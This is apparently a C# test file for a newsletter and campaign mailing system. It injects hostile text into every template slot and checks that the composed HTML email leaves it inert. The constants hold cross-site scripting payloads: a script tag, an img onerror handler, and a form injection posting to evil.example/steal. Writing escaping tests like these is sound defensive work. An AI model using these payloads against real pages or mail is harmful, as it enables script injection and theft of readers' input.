using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CecopComms.Content;
using CecopComms.Content.Validation;
using CecopComms.Delivery;
using CecopComms.Tests.Delivery;
using Dapper;
using Microsoft.Extensions.Options;

namespace CecopComms.Tests.ContentTests;

/// <summary>
/// Hostile text in every value a template shows (subject, title, preheader, publication and campaign names, hashtag,
/// news titles, bodies, image text, asset titles, the reader's name) reaches the HTML
/// part of the composed message as text: no element or attribute of it is live, in any template or partial. (News tags
/// come from a fixed list, so they cannot carry it.)
/// </summary>
public sealed class TemplateEscapingTests
{
    private const string Script = "<script>alert(1)</script>";
    private const string Image = "<img src=x onerror=alert(1)>";
    private const string Form = "\"><form action=https://evil.example/steal><input name=p></form>";
    private const string Hostile = Script + Image + Form;

    // YAML double-quoted: the quote and backslash are escaped.
    private static string Yaml(string text) => "\"" + text.Replace("\\", "\\\\").Replace("\"", "\\\"") + "\"";

    private static readonly RecipientData Reader = new(7, Guid.NewGuid().ToString(), "ana@example.org", "Ana " + Hostile, "en", "Coop " + Hostile, "IT",
        new Dictionary<string, string?> { ["sector"] = Hostile });

    public static TheoryData<string> Publications() => new() { "cecop-newsletter", "cecop-link" };

    [Theory]
    [MemberData(nameof(Publications))]
    public async Task Every_slot_of_an_edition_carries_hostile_text_as_text(string publication)
    {
        using var bed = await ContentTestBed.CreateAsync();
        await using (var connection = await bed.Database.OpenAsync())
            await connection.ExecuteAsync("UPDATE publications SET name = @Name WHERE slug = @Slug", new { Name = "News " + Hostile, Slug = publication });
        var (edition, _) = await bed.Content.SaveEditionAsync(new SourceText("hostile.yaml", $"""
            publication: {publication}
            date: 2026-03-02
            subject: {Yaml("Subject " + Hostile)}
            preheader: {Yaml("Preheader " + Hostile)}
            intro: {Yaml("Intro " + Hostile)}
            items:
              - date: 2026-03-01
                title: {Yaml("Item " + Hostile)}
                tags: [News, Position paper]
                summary: {Yaml("Summary " + Hostile)}
                image: https://cecop.coop/a.png
                image_alt: {Yaml("Alt " + Hostile)}
                link: https://cecop.coop/works/a
            """), CancellationToken.None);

        var html = Compose(await bed.Content.CompileAsync(new MailingSource(MailingSourceKind.Edition, edition.Id), CancellationToken.None));

        AssertInert(html, ["Subject ", "Preheader ", "Intro ", "Item ", "Summary ", "Alt ", "News ", "Ana "]);
    }

    [Fact]
    public async Task Every_slot_of_a_campaign_mailing_carries_hostile_text_as_text()
    {
        using var bed = await ContentTestBed.CreateAsync();
        var folder = bed.Workspace.Path("hostile-campaign");
        bed.Workspace.WriteFile("hostile-campaign/campaign.yaml", $"""
            hashtag: {Yaml("#Tag" + Hostile)}
            name: {Yaml("Campaign " + Hostile)}
            period: {"{"} start: 2026-01-01, end: 2026-12-31 {"}"}
            audience: list:external-newsletter
            sender:
              from_name: {Yaml("Sender " + Hostile)}
              from_address: communication@cecop.coop
            languages: [en]
            assets:
              - kind: report
                title: {Yaml("Asset " + Hostile)}
                url: https://cecop.coop/works/report
            mailings:
              - file: 01-hostile.md
                planned: 2026-03-02T10:00:00+01:00
            """);
        bed.Workspace.WriteFile("hostile-campaign/01-hostile.md", $"""
            ---
            title: {Yaml("Title " + Hostile)}
            subject: {Yaml("Subject " + Hostile)}
            preheader: {Yaml("Preheader " + Hostile)}
            ---
            Body {Hostile}
            """);
        var (campaign, _) = await bed.Content.LoadCampaignAsync(folder, CancellationToken.None);
        var plan = await bed.Content.CampaignPlanAsync(campaign.Slug, CancellationToken.None);

        var html = Compose(await bed.Content.CompileAsync(plan.Single().Source, CancellationToken.None));

        AssertInert(html, ["#Tag", "Campaign ", "Asset ", "Title ", "Subject ", "Preheader ", "Body ", "Ana "]);
    }

    // The message exactly as the sender builds it, for a real mailing id (its links signed for that mailing).
    private static string Compose(ICompiledMailing mailing)
    {
        var settings = DeliveryTestBed.TestOptions();
        var options = Options.Create(settings);
        var signer = new TokenSigner(new byte[32]);
        var composer = new MessageComposer(new RecipientLinkFactory(signer, options), new BounceAddress(signer, settings.BounceDomain), options, TimeProvider.System);
        var message = composer.Compose(mailing, Reader, 5, test: false);
        return message.HtmlBody ?? throw new InvalidOperationException("The message has no HTML part.");
    }

    private static void AssertInert(string html, IReadOnlyList<string> slots)
    {
        var document = new HtmlParser().ParseDocument(html);
        Assert.Empty(document.QuerySelectorAll("script"));
        Assert.Empty(document.QuerySelectorAll("form, input"));
        Assert.DoesNotContain(document.All, e => e.Attributes.Any(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase)));
        Assert.All(document.QuerySelectorAll("img"), img => Assert.NotEqual("x", img.GetAttribute("src")));
        // Each slot was filled, and its hostile text shows as the characters it is (so the assertions above saw it).
        var shown = document.DocumentElement.TextContent + string.Join("\n", document.All.SelectMany(e => e.Attributes).Select(a => a.Value));
        Assert.All(slots, slot => Assert.Contains(slot + Hostile, shown));
    }
}
